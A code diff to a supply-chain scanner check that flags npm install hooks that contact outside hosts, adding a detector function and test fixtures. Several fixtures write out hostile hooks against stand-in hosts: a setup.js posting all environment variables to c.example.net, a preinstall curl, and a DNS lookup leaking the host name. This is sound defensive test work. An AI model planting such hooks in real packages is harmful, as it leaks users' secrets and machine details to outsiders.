@@ -2,6 +2,7 @@ import type { RepositoryCheck } from '../../check.ts';
 import type { ActKind } from '../../facts/acts/act.ts';
 import { isInstallHook } from '../../facts/install-hooks.ts';
 import { dangerOf } from '../../knowledge/shell-danger.ts';
+import { RELEASE_HOSTS } from '../../knowledge/shady-hosts.ts';
 
 /** A program written into the hook itself. */
 const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][^\n]{60,}/;
@@ -49,6 +50,7 @@ export const check: RepositoryCheck = {
         'package.json': '{"scripts": {«"postinstall": "node setup.js"»}}',
         'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
       },
+      { 'package.json': '{"scripts": {«"preinstall": "curl http://names.example.net/i"»}}' },
       { 'package.json': '{"scripts": {«"preinstall": "nslookup `hostname`.names.example.net"»}}' },
       {
         'package.json': '{"scripts": {«"preinstall": "node update.js &"»}}',
@@ -63,6 +65,7 @@ export const check: RepositoryCheck = {
         'package.json': `{"scripts": {"prepare": "node -e \\"if (process.env.NODE_ENV !== 'production') require('child_process').execSync('husky', { stdio: 'inherit' })\\""}}`,
       },
       { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
+      { 'package.json': '{"scripts": {"postinstall": "curl -o data.json https://data.example.net/1.json"}}' },
       {
         'package.json': `{"scripts": {"prepare": "node -e \\"if (!process.env.RELEASING) { console.error('Releases are made by the workflow.'); process.exit(1); }\\""}}`,
       },
@@ -97,6 +100,11 @@ export const check: RepositoryCheck = {
         };
         continue;
       }
+      const host = hook.target === undefined ? contactedHost(hook.command) : undefined;
+      if (host !== undefined) {
+        yield { at: hook.at, message: `Installing talks to ${host}.`, severity: 'high', confidence: 'medium' };
+        continue;
+      }
       const act = hook.target === undefined ? undefined : acts.find(({ at }) => at.file === hook.target);
       if (act === undefined) continue;
       yield {
@@ -108,3 +116,12 @@ export const check: RepositoryCheck = {
     }
   },
 };
+
+/** Whom a command asks that only asks: a server that hands out no releases learns of every installation. */
+function contactedHost(command: string): string | undefined {
+  const address = /^\s{0,4}(?:curl|wget)\b[^\n|]{0,200}?\b(?<address>https?:\/\/[^\s"'|;&]{3,200})/.exec(command)
+    ?.groups?.['address'];
+  if (address === undefined || RELEASE_HOSTS.test(address) || /\s-(?:o|O|L?o)\s|\s--output\b/.test(command))
+    return undefined;
+  return address.replace(/^https?:\/\//, '').split('/', 1)[0];
+}
